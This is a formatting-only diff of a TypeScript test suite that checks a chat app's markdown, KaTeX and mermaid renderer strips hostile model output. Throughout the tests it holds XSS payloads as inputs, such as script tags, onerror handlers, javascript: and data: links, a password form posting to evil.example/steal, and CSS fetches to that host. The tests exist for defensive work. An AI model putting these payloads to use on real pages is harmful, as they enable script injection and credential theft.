@@ -14,7 +14,8 @@ const REMOTE = /^(?:[a-z][a-z\d+.-]*:)?\/\/(?!localhost(?::\d+)?\/)/i
 /** Everything that could run, navigate or fetch, anywhere in the tree. */
 function dangers(root: ParentNode): string[] {
   const found: string[] = []
-  const forbidden = 'script, iframe, frame, object, embed, form, input:not([type=checkbox]), textarea, select, style, link, meta, base, template, foreignObject, use, image, video, audio, source, picture, portal, noscript'
+  const forbidden =
+    'script, iframe, frame, object, embed, form, input:not([type=checkbox]), textarea, select, style, link, meta, base, template, foreignObject, use, image, video, audio, source, picture, portal, noscript'
   for (const el of root.querySelectorAll(forbidden)) {
     if (el.localName === 'style' && el.closest('.lx-mermaid')) continue // mermaid's scoped diagram styles, checked below
     found.push(`<${el.localName}>`)
@@ -61,7 +62,7 @@ describe('the test DOM', () => {
   it('runs DOMPurify as browsers do (happy-dom is patched in test-dom.ts)', () => {
     const purify = createDOMPurify(window)
     expect(purify.sanitize('<h1>T</h1><p>x<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">y</a></p>')).toBe(
-      '<h1>T</h1><p>x<img src="x"><a>y</a></p>',
+      '<h1>T</h1><p>x<img src="x"><a>y</a></p>'
     )
   })
 })
@@ -95,8 +96,8 @@ describe('hostile model output', () => {
         '[h](vbscript:msgbox(1))',
         '[i][ref]',
         '',
-        '[ref]: javascript:alert(1)',
-      ].join('\n'),
+        '[ref]: javascript:alert(1)'
+      ].join('\n')
     )
     const links = [...root.querySelectorAll('a')]
     expect(links.length).toBeGreaterThan(5)
@@ -105,7 +106,7 @@ describe('hostile model output', () => {
 
   it('drops data: links, markdown and raw', async () => {
     const root = await hostile(
-      '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n<a href="data:text/html,<script>alert(1)</script>">y</a>\n\n[z](data:image/svg+xml,<svg onload=alert(1)>)\n',
+      '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n<a href="data:text/html,<script>alert(1)</script>">y</a>\n\n[z](data:image/svg+xml,<svg onload=alert(1)>)\n'
     )
     expect(root.querySelector('a[href]')).toBeNull()
   })
@@ -122,14 +123,14 @@ describe('hostile model output', () => {
 
   it('does not create <svg onload>, <iframe srcdoc>, <object>, <embed>', async () => {
     const root = await hostile(
-      '<svg onload=alert(1)><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">\n',
+      '<svg onload=alert(1)><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">\n'
     )
     expect(root.querySelector('svg, iframe, object, embed')).toBeNull()
   })
 
   it('does not create <style>, <link> or style attributes (no CSS fetch)', async () => {
     const root = await hostile(
-      '<style>@import url(//evil.example/x.css); body { background: url(//evil.example/p.png) }</style>\n\n<link rel="stylesheet" href="//evil.example/x.css">\n\n<p style="background:url(//evil.example/p.png)">段落</p>\n\n<span style="background-image: url(https://evil.example/q.png)">行内</span>\n',
+      '<style>@import url(//evil.example/x.css); body { background: url(//evil.example/p.png) }</style>\n\n<link rel="stylesheet" href="//evil.example/x.css">\n\n<p style="background:url(//evil.example/p.png)">段落</p>\n\n<span style="background-image: url(https://evil.example/q.png)">行内</span>\n'
     )
     expect(root.querySelector('style, link, [style]')).toBeNull()
   })
@@ -147,7 +148,9 @@ describe('hostile model output', () => {
   })
 
   it('loads an image only from Lingxi’s own /files/', async () => {
-    const root = await hostile(`![海报](${location.origin}/files/a.png) ![相对](/files/b.png) ![逃逸](/files/../api/v1/user) ![外站](https://evil.example/files/c.png)\n`)
+    const root = await hostile(
+      `![海报](${location.origin}/files/a.png) ![相对](/files/b.png) ![逃逸](/files/../api/v1/user) ![外站](https://evil.example/files/c.png)\n`
+    )
     const imgs = [...root.querySelectorAll('img')]
     expect(imgs.map((i) => i.getAttribute('src'))).toEqual([`${location.origin}/files/a.png`, `${location.origin}/files/b.png`])
     expect(imgs.map((i) => i.alt)).toEqual(['海报', '相对'])
@@ -157,7 +160,7 @@ describe('hostile model output', () => {
 
   it('does not create <form>, <input>, <meta refresh> or <base>', async () => {
     const root = await hostile(
-      '<form action="https://evil.example/steal"><input name="p" type="password"><button>登录</button></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<base href="https://evil.example/">\n',
+      '<form action="https://evil.example/steal"><input name="p" type="password"><button>登录</button></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<base href="https://evil.example/">\n'
     )
     expect(root.querySelector('form, input, meta, base')).toBeNull()
     expect([...root.querySelectorAll('button')].every((b) => b.classList.contains('lx-code-copy'))).toBe(true)
@@ -165,7 +168,7 @@ describe('hostile model output', () => {
 
   it('keeps attribute injection in titles, alt text and fence info inert', async () => {
     const root = await hostile(
-      '[x](https://example.com "\\" onmouseover=\\"alert(1)") ![" onerror="alert(1)](https://example.com/a.png)\n\n```js" onclick="alert(1)\ncode\n```\n',
+      '[x](https://example.com "\\" onmouseover=\\"alert(1)") ![" onerror="alert(1)](https://example.com/a.png)\n\n```js" onclick="alert(1)\ncode\n```\n'
     )
     expect(root.querySelector('[onmouseover], [onerror], [onclick]')).toBeNull()
   })
@@ -182,7 +185,7 @@ describe('hostile model output', () => {
 
   it('keeps KaTeX untrusted: no \\href, \\url, \\includegraphics or \\htmlStyle', async () => {
     const root = await hostile(
-      '$\\href{javascript:alert(1)}{点我}$ 与 $\\url{https://evil.example}$\n\n$$\n\\includegraphics{https://evil.example/p.png}\n$$\n\n$\\htmlStyle{background:url(https://evil.example/p.png)}{x}$ $\\htmlId{x}{y}$ $\\htmlData{foo=bar}{z}$\n',
+      '$\\href{javascript:alert(1)}{点我}$ 与 $\\url{https://evil.example}$\n\n$$\n\\includegraphics{https://evil.example/p.png}\n$$\n\n$\\htmlStyle{background:url(https://evil.example/p.png)}{x}$ $\\htmlId{x}{y}$ $\\htmlData{foo=bar}{z}$\n'
     )
     await vi.waitFor(() => expect(root.querySelectorAll('.lx-math[data-done]')).toHaveLength(6))
     expect(root.querySelector('.lx-math a, .lx-math img, .lx-math [href], .lx-math [id]')).toBeNull()
@@ -191,7 +194,7 @@ describe('hostile model output', () => {
 
   it('renders mermaid strictly: no click callbacks, no script in labels', async () => {
     const root = await hostile(
-      '```mermaid\ngraph TD\nA["<script>alert(1)</script><img src=x onerror=alert(2)>"] --> B\nclick A call alert(1)\nclick B href "javascript:alert(1)"\n```\n\n```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\nC --> D\n```\n',
+      '```mermaid\ngraph TD\nA["<script>alert(1)</script><img src=x onerror=alert(2)>"] --> B\nclick A call alert(1)\nclick B href "javascript:alert(1)"\n```\n\n```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\nC --> D\n```\n'
     )
     await vi.waitFor(() => expect(root.querySelectorAll('.lx-mermaid, .lx-code-note')).toHaveLength(2), { timeout: 10_000 })
     expect(root.querySelector('.lx-mermaid script, .lx-mermaid foreignObject, .lx-mermaid [onclick]')).toBeNull()
@@ -208,7 +211,7 @@ describe('hostile model output', () => {
         '<use href="https://evil.example/s.svg#x"></use><g style="fill:url(https://evil.example/p.png)" onclick="alert(1)"><rect width="10" height="10" fill="url(#grad)"></rect></g>' +
         // last: happy-dom's parser drops whatever follows a <script> inside <svg> (browsers do not)
         '<script>alert(1)</script></svg>',
-      bindFunctions: vi.fn(),
+      bindFunctions: vi.fn()
     })
     vi.spyOn(mermaid, 'parse').mockResolvedValue({ diagramType: 'flowchart', config: {} })
     try {
@@ -288,10 +291,41 @@ const CORPUS = [
   '<img src=x onerror=alert(1)>',
   '~~~',
   '',
-  '---',
+  '---'
 ].join('\n')
 
-const TAGS = new Set(['div', 'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'strong', 'em', 'del', 'hr', 'br', 'span', 'input', 'button', 'img'])
+const TAGS = new Set([
+  'div',
+  'p',
+  'h1',
+  'h2',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'ul',
+  'ol',
+  'li',
+  'blockquote',
+  'pre',
+  'code',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'a',
+  'strong',
+  'em',
+  'del',
+  'hr',
+  'br',
+  'span',
+  'input',
+  'button',
+  'img'
+])
 
 /** Every element and attribute the renderer made, checked against what it may make. */
 function offAllowlist(root: HTMLElement): string[] {
@@ -310,7 +344,7 @@ function offAllowlist(root: HTMLElement): string[] {
     start: (el, v) => el.localName === 'ol' && /^\d+$/.test(v),
     'data-lang': (el, v) => el.matches('div.lx-code') && /^[\w+#.-]*$/.test(v),
     'data-streaming': (el) => el === root,
-    'data-highlighted': (el) => el.localName === 'code',
+    'data-highlighted': (el) => el.localName === 'code'
   }
   for (const el of [root, ...root.querySelectorAll('*')]) {
     if (!TAGS.has(el.localName)) found.push(`<${el.localName}>`)
@@ -332,7 +366,7 @@ describe('built, not parsed', () => {
       vi.spyOn(Element.prototype, 'insertAdjacentHTML'),
       vi.spyOn(Range.prototype, 'createContextualFragment'),
       vi.spyOn(DOMParser.prototype, 'parseFromString'),
-      vi.spyOn(Document.prototype, 'write'),
+      vi.spyOn(Document.prototype, 'write')
     ]
     // every line of the corpus carries a marker: no parser may ever see it (other tests' KaTeX
     // and mermaid output, sanitised by DOMPurify, may still be parsed meanwhile)
@@ -378,7 +412,9 @@ describe('sanitize() (KaTeX and mermaid output only)', () => {
   }
 
   it('lets KaTeX styles through only when they cannot fetch', () => {
-    const div = html(sanitize('<span class="katex" style="height:1em"><span style="background:url(//x)">a</span><a href="https://x">b</a></span>', document, 'math'))
+    const div = html(
+      sanitize('<span class="katex" style="height:1em"><span style="background:url(//x)">a</span><a href="https://x">b</a></span>', document, 'math')
+    )
     expect(div.innerHTML).toBe('<span class="katex" style="height:1em"><span>a</span>b</span>')
   })
 
@@ -386,14 +422,26 @@ describe('sanitize() (KaTeX and mermaid output only)', () => {
     expect(safeLinkUrl('https://example.com/a b')).toBe('https://example.com/a%20b')
     expect(safeLinkUrl('  HTTP://Example.com ')).toBe('http://example.com/')
     expect(safeLinkUrl('mailto:a@b.c')).toBe('mailto:a@b.c')
-    for (const bad of ['javascript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:x', 'data:text/html,x', 'vbscript:x', '/relative', '//host/x', 'file:///etc/passwd', 'blob:https://a/b', '']) {
+    for (const bad of [
+      'javascript:alert(1)',
+      'java\nscript:alert(1)',
+      '\u0001javascript:x',
+      'data:text/html,x',
+      'vbscript:x',
+      '/relative',
+      '//host/x',
+      'file:///etc/passwd',
+      'blob:https://a/b',
+      ''
+    ]) {
       expect(safeLinkUrl(bad)).toBeNull()
     }
   })
 
   it('refuses CSS that could fetch', () => {
     expect(safeStyle('height:1.2em;vertical-align:-0.25em')).toBe('height:1.2em;vertical-align:-0.25em')
-    for (const bad of ['background:url(//x)', 'background:URL( "x" )', 'b:image-set("x" 1x)', 'x:\\75rl(x)', 'x:expression(alert(1))']) expect(safeStyle(bad)).toBeNull()
+    for (const bad of ['background:url(//x)', 'background:URL( "x" )', 'b:image-set("x" 1x)', 'x:\\75rl(x)', 'x:expression(alert(1))'])
+      expect(safeStyle(bad)).toBeNull()
     expect(safeStylesheet('@import "x.css";a{fill:url(//x);stroke:url(#m)}@font-face{src:url(x)}')).toBe('a{fill:none;stroke:url(#m)}')
   })
 })
